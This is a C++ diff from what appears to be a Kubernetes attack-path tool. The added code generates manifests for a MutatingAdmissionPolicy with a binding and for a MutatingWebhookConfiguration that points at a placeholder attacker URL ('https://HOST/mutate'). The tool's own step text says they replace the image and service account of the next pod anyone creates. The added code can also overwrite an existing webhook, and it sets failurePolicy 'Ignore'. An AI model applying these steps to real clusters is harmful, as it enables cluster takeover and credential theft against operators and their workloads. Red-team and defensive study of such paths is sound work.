@@ -35,24 +35,30 @@ void apply(const Evaluation& at) {
   at.sink.emit({NodeType::Accounts, kAllNamespaces, 0}, proof, name);
 }
 
+constexpr std::string_view kPolicySpec =
+    R"(,"spec":{"failurePolicy":"Ignore","reinvocationPolicy":"Never","matchConstraints":{"resourceRules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]},"mutations":[{"patchType":"JSONPatch","jsonPatch":{"expression":"[JSONPatch{op: \"replace\", path: \"/spec/containers/0/image\", value: \"IMAGE\"}]"}}]})";
+
 StepText text(const StepView& view) {
   const bool webhook = !uses(view.edge, kCreateMutatingPolicy);
   if (!webhook) {
-    const auto json =
-        object_json("admissionregistration.k8s.io/v1alpha1", "MutatingAdmissionPolicy", {},
-                    "take-over", R"(,"spec":{"failurePolicy":"Ignore"})");
+    const auto name = fresh_name(view, view.edge.note);
+    const auto json = object_json("admissionregistration.k8s.io/v1alpha1",
+                                  "MutatingAdmissionPolicy", {}, name, kPolicySpec);
+    const auto binding =
+        object_json("admissionregistration.k8s.io/v1alpha1", "MutatingAdmissionPolicyBinding", {},
+                    name, fmt::format(R"(,"spec":{{"policyName":{}}})", json_text(name)));
     return {
-        send_object(view, kCreateMutatingPolicy, json),
+        send_object(view, kCreateMutatingPolicy, json) + '\n' +
+            send_object(view, kCreateMutatingBinding, binding),
         "a mutating policy changes the image and the account of the next pod that anybody makes"};
   }
-  const auto name = view.edge.note.empty() ? std::string("take-over") : view.edge.note;
+  const auto name = fresh_name(view, view.edge.note);
   const auto json = object_json(
       "admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", {}, name,
-      R"(,"webhooks":[{"name":"take.over.example","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","clientConfig":{"url":"https://HOST/mutate"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]}])");
+      R"(,"webhooks":[{"name":"take.over.example","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","clientConfig":{"url":"https://HOST/mutate","caBundle":"BASE64-OF-CA"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]}])");
   const bool exists = !uses(view.edge, kCreateWebhook);
   return {
-      exists ? fmt::format("{} apply --server-side --force-conflicts -f - <<< {}", view.kubectl,
-                           shell_word(json))
+      exists ? overwrite_object(view, kPatchWebhook, json)
              : send_object(view, kCreateWebhook, json),
       "a mutating webhook changes the image and the account of the next pod that anybody makes"};
 }
